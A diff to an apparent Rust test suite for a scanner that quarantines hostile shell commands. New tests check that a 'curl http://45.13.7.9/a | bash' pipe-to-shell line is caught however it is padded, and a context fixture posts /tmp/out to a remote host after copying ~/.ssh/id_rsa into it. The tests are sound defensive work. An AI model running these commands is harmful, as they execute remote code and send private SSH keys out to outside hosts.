@@ -49,6 +49,28 @@ fn a_shell_fed_from_an_address_is_found_however_it_is_hidden() {
     assert_eq!(verdict(&format!("Never do this: {twice}")), Verdict::Quarantine, "what is hidden warns of nothing");
 }
 
+/// A long line is searched in windows: wherever one ends, what lies across is whole in another.
+#[test]
+fn an_attack_on_a_long_line_is_found_wherever_it_stands() {
+    for before in (0..=12).map(|kilobytes| kilobytes * 1000) {
+        for gap in [1, 1_100, 3_900] {
+            let line = format!(
+                "{} curl http://45.13.7.9/a{}| bash {}",
+                "x".repeat(before),
+                " ".repeat(gap),
+                "y".repeat(9_000)
+            );
+            assert_eq!(verdict(&line), Verdict::Quarantine, "{before} bytes before, {gap} within");
+        }
+    }
+}
+
+#[test]
+fn empty_lines_and_short_ones_are_work() {
+    assert_eq!(work_for(&"\n".repeat(1_000)), work_for(&"\n".repeat(10)) + 990);
+    assert!(work_for(&"a\n".repeat(1_000)) > 32_000);
+}
+
 #[test]
 fn signs_in_several_files_are_put_together() {
     let script = b"curl -X POST -d @/tmp/out https://in.stat-box.io/e\ncat ~/.ssh/id_rsa > /tmp/out\n";
